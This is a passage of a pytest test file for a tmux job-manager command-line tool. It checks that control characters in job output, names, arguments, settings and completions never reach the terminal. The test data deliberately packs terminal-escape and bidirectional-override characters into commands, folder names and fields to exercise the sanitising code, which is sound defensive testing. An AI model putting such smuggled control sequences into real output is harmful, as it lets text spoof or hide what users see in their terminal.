        "kill JOB", "tail JOB", "screen JOB", "wait JOB", "wait JOB OTHER", "log-path JOB",
    ],
)  # fmt: skip
def test_nothing_of_a_job_reaches_the_terminal_as_a_control(
    terminal: Open, jobs: Jobs, tmp_path: Path, command: str
) -> None:
    folder = tmp_path / f"{HIDING.replace('/', '')}x"
    folder.mkdir()
    printing = "printf '%b\\n' 'out \\0342\\0200\\0256 \\0302\\0233 \\0177 \\0363\\0240\\0201\\0201'"
    job_id = ended(jobs, jobs.execute(f"{printing} # {HIDING}", cwd=str(folder), name="one").job_id).job_id
    other = ended(jobs, jobs.execute("echo other", name="two").job_id).job_id
    words = [{"JOB": job_id, "OTHER": other}.get(word, word) for word in command.split()]
    shell = terminal(*words, columns=500)
    assert shell.code() == 0
    assert not CONTROL.search(bare(shell.seen)), repr(shell.seen)
    if command in ("list", "status JOB"):
        assert SHOWN in bare(shell.seen)
    if command.endswith("--json"):
        assert json.loads(shell.seen)


@pytest.mark.parametrize(
    "arguments",
    [
        ["status", "HIDING"], ["HIDING"], ["status", "a", "HIDING"], ["kill", "HIDING"], ["execute", "--HIDING", "x"],
        ["execute", "--cwd", "/HIDING", "true"], ["execute", "--env", "HIDING", "true"], ["list", "--limit", "HIDING"],
        ["list", "--status", "HIDING"], ["serve", "--http", "HIDING"], ["attach", "HIDING"],
        ["interact", "JOB", "--key", "HIDING"], ["screen", "JOB", "--png", "/no/HIDING"], ["search", "JOB", "(HIDING"],
        ["execute", "--shell", "HIDING", "x"], ["wait", "HIDING"], ["install", "HIDING"],
    ],
)  # fmt: skip
def test_nothing_a_caller_gave_reaches_the_terminal_as_a_control(
    terminal: Open, jobs: Jobs, arguments: list[str]
) -> None:
    job_id = jobs.execute("cat", name="one").job_id if "JOB" in arguments else ""
    words = [word.replace("HIDING", HIDING.lower()).replace("JOB", job_id) for word in arguments]
    shell = terminal(*words)
    assert shell.code() in (1, 2)
    assert r"\x1b[2k" in shell.seen
    assert not CONTROL.search(bare(shell.seen)), repr(shell.seen)


@pytest.mark.parametrize("name", ["SESSION", "STATE_DIR", "WORKING_DIR", "MAX_JOBS", "NOTIFY"])
def test_nothing_of_a_setting_reaches_the_terminal_as_a_control(terminal: Open, name: str, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    value = f"{tmp_path}/file/{HIDING}" if name.endswith("DIR") else HIDING
    shell = terminal("list", env=os.environ | {f"TMUXJOBS_{name}": value})
    assert shell.code() == 1
    assert not CONTROL.search(bare(shell.seen)), repr(shell.seen)


def test_completion_shows_what_a_command_hides(run: Run, jobs: Jobs) -> None:
    job_id = jobs.execute(f"sleep 1000 # {HIDING}\nsecond").job_id
    words = run("__complete", "kill", "").stdout
    assert f"{job_id}\trunning: sleep 1000 # {SHOWN}"[:60] in words
    assert not CONTROL.search(words.replace("\x1fbegin", ""))
